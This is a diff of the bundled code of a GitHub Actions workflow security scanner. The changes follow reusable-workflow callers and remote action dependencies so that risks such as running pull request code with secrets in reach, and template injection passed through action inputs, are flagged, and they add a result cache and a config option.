-          message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${triggers.join("`/`")}\`${reach.length > 0 ? `, with ${reach.join(" and ")} in reach` : " (the job's cache and artifacts are in reach)"}`,
-          severity: reach.length > 0 ? "high" : "medium",
-          confidence: guarded || checkout.inSubdirectory ? "medium" : "high",
+          message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how} under \`${own.join("`/`")}\`${reach ? `, with ${reach} in reach` : " (the job's cache and artifacts are in reach)"}`,
+          severity: reach ? "high" : "medium",
+          confidence: path.guarded || checkout.inSubdirectory ? "medium" : "high",
           related: [
             { span: checkout.span, message: "pull request code checked out here" },
             ...executions.slice(1, 4).map((execution) => ({ span: execution.span, message: `also runs ${execution.what}` }))
           ]
         });
       }
+    }
+    const space = viewValue(workspace);
+    if (!space) return;
+    if (own.length === 0 && workflow.hasTrigger("workflow_call")) {
+      const callers = workflowCallers(space, file).filter((caller) => privileged(caller.triggers).length > 0);
+      if (callers.length > 0) {
+        const triggers = privileged(callers.flatMap((caller) => caller.triggers));
+        for (const path of pathsOf(file, workflow)) {
+          const { job, checkout, executions } = path;
+          const reach = reachOf(path.secrets, calledJobMayWrite(workflow, job, callers));
+          const first = executions[0];
+          const named = callers.slice(0, 3).map((caller) => `\`${caller.path}\``).join(", ");
+          report2({
+            span: first.span,
+            message: `job \`${job.id}\` runs ${first.what} on pull request code fetched by ${checkout.how}; this reusable workflow is called under \`${triggers.join("`/`")}\` by ${named}${callers.length > 3 ? "…" : ""}${reach ? `, with ${reach} in reach` : " (the job's cache and artifacts are in reach)"}`,
+            severity: reach ? "high" : "medium",
+            confidence: path.guarded || checkout.inSubdirectory ? "medium" : "high",
+            related: [
+              { span: checkout.span, message: "pull request code checked out here" },
+              ...callers.slice(0, 5).map((caller) => ({
+                span: caller.uses.valueSpan,
+                message: `called here by job \`${caller.job.id}\` under \`${privileged(caller.triggers).join("`/`")}\``,
+                file: caller.file
+              }))
+            ]
+          });
+        }
+      }
+    }
+    let triggersHere = null;
+    for (const job of workflow.jobs) {
+      const value = scalarText(job.uses?.value ?? null);
+      if (!job.uses || !value) continue;
+      const target = resolveLocalUses(space, value, file);
+      const called = target?.file.workflow;
+      if (!target || !called || target.file === file) continue;
+      triggersHere ??= privileged([
+        ...own,
+        ...workflow.hasTrigger("workflow_call") ? workflowCallers(space, file).flatMap((caller) => caller.triggers) : []
+      ]);
+      if (triggersHere.length === 0) continue;
+      if (privilegedTriggers(called, TRIGGERS3).length > 0) continue;
+      const paths = pathsOf(target.file, called);
+      if (paths.length === 0) continue;
+      const first = paths[0];
+      const self = [
+        {
+          path: "",
+          file,
+          job,
+          step: null,
+          uses: job.uses,
+          with: job.with,
+          triggers: triggersHere,
+          chain: [],
+          permissions: job.permissions ?? workflow.permissions,
+          secrets: []
+        }
+      ];
+      const reach = reachOf(first.secrets, calledJobMayWrite(called, first.job, self));
+      report2({
+        span: job.uses.valueSpan,
+        message: `job \`${job.id}\` calls \`${target.path}\` under \`${triggersHere.join("`/`")}\`, and its job \`${first.job.id}\` runs ${first.executions[0].what} on pull request code fetched by ${first.checkout.how}${reach ? `, with ${reach} in reach` : ""}`,
+        severity: reach ? "high" : "medium",
+        confidence: first.guarded || first.checkout.inSubdirectory ? "medium" : "high",
+        related: [
+          { span: first.executions[0].span, message: `runs ${first.executions[0].what} on pull request code`, file: target.file },
+          { span: first.checkout.span, message: "pull request code checked out here", file: target.file }
+        ]
+      });
     }
   }
 };
@@ -19615,6 +20033,9 @@ function builtIn(id) {
 function isSuppressed(finding) {
   return finding.suppression !== void 0;
 }
+function isWebUrl(uri) {
+  return uri.startsWith("https://") || uri.startsWith("http://");
+}
 
 // server/src/config/rule-options.ts
 var RULE_OPTIONS = {
@@ -19695,7 +20116,16 @@ function isSecretName(name) {
 
 // server/src/config/config-file.ts
 var PIN_POLICIES = ["any", "ref-pin", "hash-pin"];
-var OUR_TOP_LEVEL_KEYS = ["persona", "min-severity", "min-confidence", "github", "pinning", "checksums", "rules"];
+var OUR_TOP_LEVEL_KEYS = [
+  "persona",
+  "min-severity",
+  "min-confidence",
+  "github",
+  "pinning",
+  "checksums",
+  "follow-dependencies",
+  "rules"
+];
 var RULE_KEYS_OURS = ["disable", "ignore", "config", "severity", "remap"];
 var RULE_KEYS_ZIZMOR = ["disable", "ignore", "config", "remap"];
 function knownRuleIds() {
@@ -19853,6 +20283,10 @@ function parseConfig(text, path, format) {
         }
         break;
       }
+      case "follow-dependencies":
+        if (isScalar(value) && typeof value.value === "boolean") config.followDependencies = value.value;
+        else problem(value ?? pair.key, "`follow-dependencies` must be `true` or `false`.");
+        break;
       case "checksums": {
         if (!isMap(value)) {
           problem(value ?? pair.key, "`checksums` must be a mapping of download URL to its sha256.");
@@ -20140,7 +20574,8 @@ function optionsWithConfig(base2, config, relativePath, overrides = {}) {
     ...definedOnly(overrides),
     disabledRules,
     ruleConfig,
-    ...adjust ? { adjust } : {}
+    ...adjust ? { adjust } : {},
+    ...config.followDependencies === false ? { views: { ...base2.views, dependencies: unavailable("not-fetched", "follow-dependencies is false") } } : {}
   };
 }
 function definedOnly(overrides) {
@@ -20358,8 +20793,8 @@ function findRegion(doc, text, change) {
       if (here === null || next === null) return null;
       const start = lineStartOf(text, here);
       const end = next === text.length ? next : lineStartOf(text, next);
-      const inside = change.start >= start && change.start <= end;
-      if (!inside) continue;
+      const inside2 = change.start >= start && change.start <= end;
+      if (!inside2) continue;
       if (change.oldEnd > end || end <= start) return null;
       const indent = here - start;
       if (!/^ *$/.test(text.slice(start, here))) return null;
@@ -20869,6 +21304,504 @@ function relativeTo(root, path) {
   return normalized === "" || normalized.startsWith("..") ? path.replace(/\\/g, "/") : normalized;
 }
 
+// server/src/resolve/cache.ts
+var import_node_crypto2 = require("node:crypto");
+var import_node_fs3 = require("node:fs");
+var import_node_os = require("node:os");
+var import_node_path3 = require("node:path");
+var FORMAT = 1;
+var TtlCache = class {
+  constructor(dir, now = Date.now) {
+    this.dir = dir;
+    this.now = now;
+  }
+  dir;
+  now;
+  memory = /* @__PURE__ */ new Map();
+  get(key, ttlMs) {
+    const inMemory = this.memory.get(key);
+    if (inMemory && this.now() - inMemory.storedAt < ttlMs) return inMemory.value;
+    if (!this.dir) return void 0;
+    try {
+      const stored = JSON.parse((0, import_node_fs3.readFileSync)(this.file(key), "utf8"));
+      if (stored.format !== FORMAT || stored.key !== key || typeof stored.storedAt !== "number") return void 0;
+      if (this.now() - stored.storedAt >= ttlMs || stored.storedAt > this.now() + 6e4) return void 0;
+      this.memory.set(key, { storedAt: stored.storedAt, value: stored.value });
+      return stored.value;
+    } catch {
+      return void 0;
+    }
+  }
+  set(key, value, persist = true) {
+    const stored = { storedAt: this.now(), value };
+    this.memory.set(key, stored);
+    if (!this.dir || !persist) return;
+    try {
+      (0, import_node_fs3.mkdirSync)(this.dir, { recursive: true });
+      const file = this.file(key);
+      const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
+      (0, import_node_fs3.writeFileSync)(temporary, JSON.stringify({ format: FORMAT, key, ...stored }));
+      (0, import_node_fs3.renameSync)(temporary, file);
+    } catch {
+    }
+  }
+  clearMemory() {
+    this.memory.clear();
+  }
+  file(key) {
+    return (0, import_node_path3.join)(this.dir, `${(0, import_node_crypto2.createHash)("sha256").update(key).digest("hex").slice(0, 32)}.json`);
+  }
+};
+function defaultCliCacheDir(env = process.env) {
+  if (env.XDG_CACHE_HOME && (0, import_node_path3.isAbsolute)(env.XDG_CACHE_HOME)) return (0, import_node_path3.join)(env.XDG_CACHE_HOME, "actions-warden");
+  if (process.platform === "win32" && env.LOCALAPPDATA && (0, import_node_path3.isAbsolute)(env.LOCALAPPDATA))
+    return (0, import_node_path3.join)(env.LOCALAPPDATA, "actions-warden", "cache");
+  return (0, import_node_path3.join)((0, import_node_os.homedir)(), ".cache", "actions-warden");
+}
+
+// server/src/resolve/repo-data.ts
+var FOREVER = Number.POSITIVE_INFINITY;
+var DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
+var DEFAULT_MAX_BRANCHES = 10;
+var RepoData = class {
+  resolver;
+  missingTtlMs;
+  idsTtlMs;
+  maxFileBytes;
+  maxBranches;
+  negativeTtlMs;
+  now;
+  cache;
+  inflight = /* @__PURE__ */ new Map();
+  failures = /* @__PURE__ */ new Map();
+  constructor(resolver, options = {}) {
+    this.resolver = resolver;
+    this.now = options.now ?? Date.now;
+    this.missingTtlMs = options.missingTtlMs ?? 5 * 60 * 1e3;
+    this.negativeTtlMs = options.negativeTtlMs ?? 60 * 1e3;
+    this.idsTtlMs = options.idsTtlMs ?? 60 * 60 * 1e3;
+    this.maxFileBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
+    this.maxBranches = Math.max(1, options.maxBranches ?? DEFAULT_MAX_BRANCHES);
+    this.cache = new TtlCache(options.cacheDir ?? null, this.now);
+  }
+  /** The server origin every cache key starts with (answers of two hosts never mix). */
+  get hostKey() {
+    return this.resolver.http ? this.resolver.http.server.origin : "invalid";
+  }
+  /**
+   * `load` behind the offline/configuration/name checks, the caches and coalescing. A `not-found` answer
+   * is kept (on disk too) for `missingTtlMs`; other failures in memory as described above.
+   */
+  async cached(key, ttlMs, owner, repo, load2) {
+    if (this.resolver.offline) return fail("offline", "offline mode is on: no request was made");
+    const http = this.resolver.http;
+    if (!http) return { ok: false, error: this.resolver.configurationError ?? { kind: "invalid", message: "online checks are off" } };
+    if (!isValidRepoName(owner, repo)) return fail("invalid", `\`${owner}/${repo}\` is not a valid repository name`);
+    const hit = this.cache.get(key, ttlMs);
+    if (hit !== void 0) return ok(hit);
+    const missing = this.cache.get(`missing|${key}`, this.missingTtlMs);
+    if (missing !== void 0) return { ok: false, error: missing };
+    const failure = this.failures.get(key);
+    if (failure && failure.until > this.now()) return { ok: false, error: failure.error };
+    const running = this.inflight.get(key);
+    if (running) return running;
+    const promise = (async () => {
+      let result;
+      try {
+        result = await load2(http);
+      } catch (error) {
+        result = fail("network", `unexpected error: ${error instanceof Error ? error.message : String(error)}`);
+      }
+      if (result.ok) {
+        this.cache.set(key, result.value);
+        this.failures.delete(key);
+      } else if (result.error.kind === "not-found") {
+        this.cache.set(`missing|${key}`, result.error);
+      } else if (result.error.kind !== "host-down" && result.error.kind !== "offline") {
+        this.failures.set(key, { error: result.error, until: result.error.retryAt ?? this.now() + this.negativeTtlMs });
+      }
+      return result;
+    })();
+    this.inflight.set(key, promise);
+    try {
+      return await promise;
+    } finally {
+      this.inflight.delete(key);
+    }
+  }
+};
+function repoApiPath(owner, repo) {
+  return `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
+}
+
+// server/src/resolve/repo-files.ts
+function repoPathProblem(path) {
+  if (typeof path !== "string" || path === "") return "the path is empty";
+  if (path.length > 1024) return "the path is longer than 1024 characters";
+  if (path.startsWith("/")) return "the path is absolute";
+  for (let index2 = 0; index2 < path.length; index2++) {
+    const code = path.charCodeAt(index2);
+    if (code === 92) return "the path contains a backslash";
+    if (code < 32 || code === 127) return "the path contains a control character";
+  }
+  for (const segment of path.split("/")) {
+    if (segment === "") return "the path has an empty segment";
+    if (segment === "." || segment === "..") return `the path has a \`${segment}\` segment`;
+  }
+  return null;
+}
+function encodePath(path) {
+  return path.split("/").map(encodeURIComponent).join("/");
+}
+function readFileAtCommit(data, owner, repo, commit, path) {
+  if (typeof commit !== "string" || !/^[0-9a-fA-F]{40}$/.test(commit)) {
+    return Promise.resolve(fail("invalid", `files are read at a full 40-hex commit SHA only, not \`${String(commit).slice(0, 60)}\``));
+  }
+  const problem = repoPathProblem(path);
+  if (problem) return Promise.resolve(fail("invalid", `refused to read a file at a commit: ${problem}`));
+  const sha = commit.toLowerCase();
+  const key = `file|${data.hostKey}|${`${owner}/${repo}`.toLowerCase()}|${sha}|${path}`;
+  return data.cached(key, FOREVER, owner, repo, (http) => load(http, data.maxFileBytes, owner, repo, sha, path));
+}
+async function load(http, limit, owner, repo, sha, path) {
+  const where2 = `${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
+  const raw = http.raw ? await http.request("raw", `/${where2}/${sha}/${encodePath(path)}`, { auth: "none", maxBodyBytes: limit }) : await http.request("server", `/${where2}/raw/${sha}/${encodePath(path)}`, { auth: "bearer", maxBodyBytes: limit });
+  if (raw.ok) return ok(decode(raw.value.body, "raw"));
+  if (raw.error.kind === "too-large" || raw.error.kind === "invalid") return raw;
+  if (raw.error.kind === "not-found" && http.raw && !http.hasToken) return notFound(owner, repo, sha, path);
+  const contents = await http.request("api", `${repoApiPath(owner, repo)}/contents/${encodePath(path)}?ref=${sha}`, {
+    auth: "bearer",
+    maxBodyBytes: limit,
+    headers: { Accept: "application/vnd.github.raw+json", "X-GitHub-Api-Version": "2022-11-28" }
+  });
+  if (contents.ok) {
+    if ((contents.value.headers.get("content-type") ?? "").includes("json") && contents.value.body[0] === 91) {
+      return fail("not-found", `\`${path}\` is a folder, not a file, in ${owner}/${repo} at ${sha.slice(0, 12)}`);
+    }
+    return ok(decode(contents.value.body, "contents"));
+  }
+  if (contents.error.kind === "not-found") return notFound(owner, repo, sha, path);
+  return contents;
+}
+function notFound(owner, repo, sha, path) {
+  return fail("not-found", `${owner}/${repo} has no file \`${path}\` at ${sha.slice(0, 12)} (or it is private and no token can read it)`);
+}
+function decode(body, via) {
+  return { text: new TextDecoder("utf-8").decode(body), bytes: body.byteLength, via };
+}
+
+// server/src/resolve/lock-entry.ts
+function lockableUses2(value) {
+  const uses = parseUses(value);
+  if (uses.kind !== "remote" || uses.ref === null || uses.refKind === null || uses.refKind === "expression") return null;
+  return uses;
+}
+function remoteUsesIn(text, kind) {
+  let root;
+  try {
+    const doc = parseDocument(text, { prettyErrors: false, uniqueKeys: false, strict: false });
+    if (doc.errors.length > 0) return [];
+    root = doc.contents;
+  } catch {
+    return [];
+  }
+  const out = [];
+  const stepUses2 = (steps) => {
+    if (!isSeq(steps)) return;
+    for (const step of steps.items) {
+      const uses = isMap(step) ? step.get("uses", true) : void 0;
+      if (isScalar(uses) && typeof uses.value === "string") out.push(uses.value);
+    }
+  };
+  if (!isMap(root)) return out;
+  if (kind === "action") {
+    const runs = root.get("runs", true);
+    if (!isMap(runs)) return out;
+    const using = runs.get("using", true);
+    if (!isScalar(using) || String(using.value).toLowerCase() !== "composite") return out;
+    stepUses2(runs.get("steps", true));
+  } else {
+    const jobs = root.get("jobs", true);
+    if (!isMap(jobs)) return out;
+    for (const job of jobs.items) {
+      if (!isMap(job.value)) continue;
+      const uses = job.value.get("uses", true);
+      if (isScalar(uses) && typeof uses.value === "string") out.push(uses.value);
+      stepUses2(job.value.get("steps", true));
+    }
+  }
+  return out.filter((value) => lockableUses2(value) !== null);
+}
+
+// server/src/dependencies/walk.ts
+var DEFAULT_MAX_DEPTH = 5;
+var DEFAULT_MAX_FILES = 200;
+var DependencyGraph = class {
+  /** `owner/repo@ref` (owner and repository lower-cased) → full commit SHA. */
+  commits = /* @__PURE__ */ new Map();
+  /** `owner/repo|path|commit` (lower-cased) → the fetched action or workflow. */
+  actions = /* @__PURE__ */ new Map();
+  /** Same keys → why it could not be fetched. */
+  failures = /* @__PURE__ */ new Map();
+  /** Sentences saying where the walk stopped (depth, file budget). */
+  stopped = [];
+  /** Files read (or found in the cache) during the walk. */
+  filesRead = 0;
+  /** Per-graph memo of the findings of each dependency (see chain.ts). */
+  memo = /* @__PURE__ */ new Map();
+  action(owner, repo, path, commit) {
+    const key = actionKey(owner, repo, path, commit);
+    const found = this.actions.get(key);
+    if (found) return available(found);
+    const failure = this.failures.get(key);
+    return failure === void 0 ? unavailable("not-fetched") : unavailable("failed", failure);
+  }
+  commitOf(owner, repo, ref2) {
+    if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
+    return this.commits.get(refKey(owner, repo, ref2));
+  }
+};
+function actionKey(owner, repo, path, commit) {
+  return `${owner}/${repo}|${path}|${commit}`.toLowerCase();
+}
+function refKey(owner, repo, ref2) {
+  return `${owner.toLowerCase()}/${repo.toLowerCase()}@${ref2}`;
+}
+function usesPath(uses) {
+  let path = uses.subpath ?? "";
+  while (path.endsWith("/")) path = path.slice(0, -1);
+  return path;
+}
+function isWorkflowPath2(path) {
+  return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
+}
+async function walkDependencies(data, usesValues, options = {}) {
+  const graph = new DependencyGraph();
+  const maxDepth = Math.max(1, options.maxDepth ?? DEFAULT_MAX_DEPTH);
+  const maxFiles = Math.max(1, options.maxFiles ?? DEFAULT_MAX_FILES);
+  const server = data.resolver.http?.server;
+  const serverUrl = options.serverUrl ?? (server ? `${server.origin}${trimEndOf(server.pathname, "/")}` : "https://github.com");
+  const seen = /* @__PURE__ */ new Set();
+  let level = usesValues.map(lockableUses2).filter((uses) => uses !== null);
+  let budgetNoted = false;
+  for (let depth = 1; level.length > 0; depth++) {
+    const todo = [];
+    for (const uses of level) {
+      const id = `${uses.owner}/${uses.repo}|${usesPath(uses)}|${uses.ref}`.toLowerCase();
+      if (seen.has(id)) continue;
+      seen.add(id);
+      todo.push(uses);
+    }
+    if (todo.length === 0) break;
+    if (depth > maxDepth) {
+      graph.stopped.push(
+        `the dependency chain is deeper than ${maxDepth} levels at ${todo.map((u) => `${u.owner}/${u.repo}@${u.ref}`).join(", ")}: it was not followed further`
+      );
+      break;
+    }
+    const next = [];
+    await Promise.all(
+      todo.map(async (uses) => {
+        const commit = await resolveCommit(data, graph, uses);
+        if (commit === null) return;
+        const path = usesPath(uses);
+        const key = actionKey(uses.owner, uses.repo, path, commit);
+        if (graph.actions.has(key) || graph.failures.has(key)) return;
+        if (graph.filesRead >= maxFiles) {
+          if (!budgetNoted) graph.stopped.push(`more than ${maxFiles} dependency files: the rest of the chain was not followed`);
+          budgetNoted = true;
+          graph.failures.set(key, `not read: the walk reads at most ${maxFiles} files`);
+          return;
+        }
+        const fetched = await fetchAction(data, uses, path, commit, serverUrl, graph);
+        if (!fetched.ok) {
+          graph.failures.set(key, fetched.message);
+          return;
+        }
+        graph.actions.set(key, fetched.action);
+        next.push(...remoteUsesIn(fetched.action.file.text, fetched.action.file.kind === "workflow" ? "workflow" : "action"));
+      })
+    );
+    level = next.map(lockableUses2).filter((uses) => uses !== null);
+  }
+  return graph;
+}
+async function resolveCommit(data, graph, uses) {
+  const ref2 = uses.ref;
+  if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
+  const key = refKey(uses.owner, uses.repo, ref2);
+  const known = graph.commits.get(key);
+  if (known) return known;
+  const resolved = await data.resolver.resolveRef(uses.owner, uses.repo, ref2);
+  if (!resolved.ok || !FULL_SHA_RE.test(resolved.value.commit)) return null;
+  graph.commits.set(key, resolved.value.commit.toLowerCase());
+  return resolved.value.commit.toLowerCase();
+}
+async function fetchAction(data, uses, path, commit, serverUrl, graph) {
+  const { owner, repo } = uses;
+  const workflow = isWorkflowPath2(path);
+  const candidates = workflow ? [path] : ["action.yml", "action.yaml"].map((name) => path === "" ? name : `${path}/${name}`);
+  for (const fileName of candidates) {
+    graph.filesRead++;
+    const read = await readFileAtCommit(data, owner, repo, commit, fileName);
+    if (read.ok) {
+      const file = parseFile(`${owner}/${repo}/${fileName}@${commit}`, workflow ? "workflow" : "action", read.value.text);
+      const url = `${serverUrl}/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}/blob/${commit}/${fileName.split("/").map(encodeURIComponent).join("/")}`;
+      return { ok: true, action: { owner, repo, path, commit, file, fileName, url } };
+    }
+    if (read.error.kind !== "not-found") return { ok: false, message: read.error.message };
+  }
+  return {
+    ok: false,
+    message: `${owner}/${repo}${path ? `/${path}` : ""} has no ${workflow ? path : "action.yml or action.yaml"} at ${commit.slice(0, 12)}`
+  };
+}
+
+// server/src/dependencies/chain.ts
+var CHAINED_RULES = /* @__PURE__ */ new Set([
+  "unpinned-uses",
+  "template-injection",
+  "unpinned-images",
+  "unverified-download",
+  "known-vulnerable-actions",
+  "archived-uses",
+  "insecure-commands"
+]);
+var ChainView = class {
+  constructor(base2, stack) {
+    this.base = base2;
+    this.stack = stack;
+  }
+  base;
+  stack;
+  action(owner, repo, path, commit) {
+    if (this.stack.has(actionKey(owner, repo, path, commit))) return { available: false, reason: "not-fetched" };
+    return this.base.action(owner, repo, path, commit);
+  }
+  commitOf(owner, repo, ref2) {
+    return this.base.commitOf?.(owner, repo, ref2);
+  }
+};
+function rootOf(view) {
+  return view instanceof ChainView ? { base: view.base, stack: view.stack } : { base: view, stack: /* @__PURE__ */ new Set() };
+}
+function resolvedSites(file, view) {
+  const out = [];
+  for (const site of file.uses) {
+    const uses = lockableUses2(site.value);
+    if (!uses) continue;
+    const commit = view.commitOf?.(uses.owner, uses.repo, uses.ref);
+    if (!commit) continue;
+    const fetched = view.action(uses.owner, uses.repo, usesPath(uses), commit);
+    if (fetched.available) out.push({ site, uses: site.value, action: fetched.value });
+  }
+  return out;
+}
+function where(action, line) {
+  const path = action.path && !action.fileName?.startsWith(`${action.path}/`) && action.fileName !== action.path ? `/${action.path}` : "";
+  const name = action.fileName ?? "action.yml";
+  return `${action.owner}/${action.repo}${path}@${action.commit.slice(0, 12)} ${name}:${line + 1}`;
+}
+function usesSpan(site) {
+  return site.entry.valueSpan;
+}
+function dependencyFindings(file, view, analyzeDependency2) {
+  const { base: base2, stack } = rootOf(view);
+  const findings2 = [];
+  for (const { site, action } of resolvedSites(file, view)) {
+    const key = actionKey(action.owner, action.repo, action.path, action.commit);
+    const inner = analyzeDependency2(action.file, new ChainView(base2, /* @__PURE__ */ new Set([...stack, key])));
+    const span = usesSpan(site);
+    const range = file.lines.range(span);
+    for (const found of inner) {
+      if (!CHAINED_RULES.has(found.ruleId)) continue;
+      if (found.ruleId === "template-injection" && expandsOnlyInputs(action.file, found)) continue;
+      const at = where(action, found.range.start.line);
+      findings2.push({
+        ruleId: found.ruleId,
+        severity: found.severity,
+        confidence: found.confidence,
+        persona: found.persona,
+        message: `via ${at}: ${found.message}`,
+        span,
+        range,
+        related: [
+          { span: found.span, range: found.range, message: `${found.ruleId} in ${at}`, ...action.url ? { uri: action.url } : {} }
+        ],
+        fixes: []
+      });
+    }
+    findings2.push(...inputTaint(file, site, action));
+  }
+  return findings2;
+}
+function expandsOnlyInputs(file, finding) {
+  const text = file.text.slice(finding.span.start, finding.span.end).trim();
+  return /^(\$\{\{\s*)?inputs\.[A-Za-z0-9_-]+(\s*\}\})?$/.test(text);
+}
+function inputsIntoRun(action) {
+  const out = /* @__PURE__ */ new Map();
+  if (action.file.kind !== "action") return out;
+  for (const site of action.file.expressions) {
+    const path = site.path;
+    if (path.length !== 4 || path[0] !== "runs" || path[1] !== "steps" || path[3] !== "run") continue;
+    const single = singleContext(site);
+    if (!single) continue;
+    const parts = single.path.split(".");
+    if (parts.length !== 2 || parts[0] !== "inputs") continue;
+    const name = parts[1].toLowerCase();
+    if (out.has(name)) continue;
+    const span = { start: site.occurrence.start, end: site.occurrence.end };
+    out.set(name, { span, line: action.file.lines.range(span).start.line });
+  }
+  return out;
+}
+function inputTaint(file, site, action) {
+  const sinks = inputsIntoRun(action);
+  if (sinks.size === 0 || !site.step) return [];
+  const entries = /* @__PURE__ */ new Map();
+  for (const entry of site.step.with.entries) if (entry.value) entries.set(entry.value, entry);
+  if (entries.size === 0) return [];
+  const findings2 = [];
+  for (const expression of file.expressions) {
+    const entry = entries.get(expression.scalar);
+    if (!entry) continue;
+    const sink = sinks.get(entry.key.toLowerCase());
+    if (!sink) continue;
+    let verdict2 = null;
+    let leaf = null;
+    for (const found of assessSite(expression, scopeOf(file, expression.path))) {
+      const best = stronger(verdict2, found.verdict);
+      if (best !== verdict2) {
+        verdict2 = best;
+        leaf = found;
+      }
+    }
+    if (!verdict2 || !leaf || verdict2.capability === "fixed") continue;
+    const at = where(action, sink.line);
+    const span = { start: expression.occurrence.start, end: expression.occurrence.end };
+    findings2.push({
+      ruleId: "template-injection",
+      severity: verdict2.severity,
+      confidence: verdict2.confidence,
+      persona: verdict2.persona,
+      message: `\`${leaf.path}\` (${verdict2.reason}) is passed as \`${entry.key}\` to ${site.value}, which expands \`inputs.${entry.key}\` into a \`run:\` script (via ${at})`,
+      span,
+      range: file.lines.range(span),
+      related: [
+        {
+          span: sink.span,
+          range: action.file.lines.range(sink.span),
+          message: `\`inputs.${entry.key}\` expanded into a run: script in ${at}`,
+          ...action.url ? { uri: action.url } : {}
+        }
+      ],
+      fixes: []
+    });
+  }
+  return findings2;
+}
+
 // server/src/rules/support/dead-code.ts
 function isNeverTrue(entry) {
   if (!entry) return false;
@@ -21174,7 +22107,7 @@ function analyze(file, options = DEFAULT_ANALYSIS_OPTIONS) {
 }
 function* analysisSteps(file, options) {
   if (file.kind === "unknown") return [];
-  const findings = [];
+  const findings2 = [];
   const toFinding = (rule, report2) => {
     const finding = buildFinding(rule, report2);
     return typeof report2.fixes === "function" ? withLazyFixes(finding, report2.fixes) : finding;
@@ -21187,15 +22120,17 @@ function* analysisSteps(file, options) {
     message: report2.message,
     span: report2.span,
     range: file.lines.range(report2.span),
-    related: (report2.related ?? []).map((related2) => ({ ...related2, range: file.lines.range(related2.span) })),
+    related: (report2.related ?? []).map(
+      (related2) => related2.file ? { span: related2.span, range: related2.file.lines.range(related2.span), message: related2.message, uri: related2.file.uri } : { span: related2.span, range: file.lines.range(related2.span), message: related2.message }
+    ),
     fixes: typeof report2.fixes === "function" ? [] : report2.fixes ?? []
   });
   for (const problem of file.problems) {
     if (problem.code === INTERNAL_ERROR_RULE) {
-      findings.push(toFinding(builtIn(INTERNAL_ERROR_RULE), { span: problem.span, message: problem.message }));
+      findings2.push(toFinding(builtIn(INTERNAL_ERROR_RULE), { span: problem.span, message: problem.message }));
       continue;
     }
-    findings.push(
+    findings2.push(
       toFinding(builtIn(SYNTAX_ERROR_RULE), {
         span: problem.span,
         message: problem.code === "file-too-large" || problem.code === "too-deeply-nested" ? problem.message : `YAML: ${problem.message}`
@@ -21209,7 +22144,7 @@ function* analysisSteps(file, options) {
     config: NO_CONFIG,
     ...NO_VIEWS,
     report: (report2) => {
-      if (current) findings.push(toFinding(current, report2));
+      if (current) findings2.push(toFinding(current, report2));
     }
   };
   for (const rule of options.rules ?? RULES) {
@@ -21221,7 +22156,7 @@ function* analysisSteps(file, options) {
     try {
       rule.check(context);
     } catch (error) {
-      findings.push(
+      findings2.push(
         toFinding(builtIn(INTERNAL_ERROR_RULE), {
           span: { start: 0, end: 0 },
           message: `Rule ${rule.id} failed on this file: ${error instanceof Error ? error.message : String(error)}`
@@ -21232,7 +22167,12 @@ function* analysisSteps(file, options) {
     yield;
   }
   current = null;
-  const adjusted = options.adjust ? findings.map(options.adjust).filter((finding) => finding !== null) : findings;
+  if (views.dependencies.available) {
+    for (const finding of dependencyFindings(file, views.dependencies.value, analyzeDependency)) {
+      if (!options.disabledRules.has(finding.ruleId)) findings2.push(finding);
+    }
+  }
+  const adjusted = options.adjust ? findings2.map(options.adjust).filter((finding) => finding !== null) : findings2;
   const ignores = new IgnoreTracker(file);
   const suppressed = [];
   const hide = (finding) => {
@@ -21258,7 +22198,26 @@ function* analysisSteps(file, options) {
   if (suppressed.length > 0) kept.push(...suppressed);
   const dead = deadRegions(file);
   const live = dead.length === 0 ? kept : kept.filter((finding) => builtInRule(finding.ruleId) || !insideDeadRegion(finding.span, dead));
-  return live.filter((finding) => isShown(finding, options)).sort(compareFindings);
+  const shown = live.filter((finding) => isShown(finding, options));
+  if (options.onHidden && shown.length < live.length) {
+    for (const finding of live) if (!isSuppressed(finding) && !isShown(finding, options)) options.onHidden(finding);
+  }
+  return shown.sort(compareFindings);
+}
+var DEPENDENCY_OPTIONS = {
+  persona: "auditor",
+  minSeverity: "informational",
+  minConfidence: "low",
+  disabledRules: /* @__PURE__ */ new Set()
+};
+var dependencyMemo = /* @__PURE__ */ new WeakMap();
+function analyzeDependency(file, view) {
+  let found = dependencyMemo.get(file);
+  if (!found) {
+    found = analyze(file, { ...DEPENDENCY_OPTIONS, views: { dependencies: { available: true, value: view } } });
+    dependencyMemo.set(file, found);
+  }
+  return found;
 }
 var MAX_JUSTIFICATION_LENGTH = 500;
 function inlineSuppression(file, ignores, finding) {
@@ -21292,8 +22251,8 @@ function writeLazyFixes(fixes) {
   Object.defineProperty(this, COMPUTE_FIXES, { value: void 0 });
   Object.defineProperty(this, "fixes", { value: fixes, writable: true, enumerable: true, configurable: true });
 }
-function settleLazyFixes(findings, mode) {
-  for (const finding of findings) {
+function settleLazyFixes(findings2, mode) {
+  for (const finding of findings2) {
     if (!finding[COMPUTE_FIXES]) continue;
     if (mode === "compute") void finding.fixes;
     else writeLazyFixes.call(finding, []);
@@ -21306,10 +22265,10 @@ function withLazyFixes(finding, compute) {
 }
 
 // server/src/fixes/fix-all.ts
-function fixAllEdits(findings, accept = (fix) => fix.isPreferred && fix.safety === "safe") {
+function fixAllEdits(findings2, accept = (fix) => fix.isPreferred && fix.safety === "safe") {
   const taken = [];
   const seen = /* @__PURE__ */ new Set();
-  for (const finding of findings) {
+  for (const finding of findings2) {
     const fix = finding.fixes.find(accept);
     if (!fix) continue;
     const key = JSON.stringify(fix.edits);
@@ -21327,27 +22286,27 @@ function fixAllEdits(findings, accept = (fix) => fix.isPreferred && fix.safety =
 }
 
 // server/src/lockfile/locate.ts
-var import_node_fs3 = require("node:fs");
-var import_node_path3 = require("node:path");
+var import_node_fs4 = require("node:fs");
+var import_node_path4 = require("node:path");
 var MAX_READ_BYTES = 4 * 1024 * 1024;
-var NOFOLLOW2 = import_node_fs3.constants.O_NOFOLLOW ?? 0;
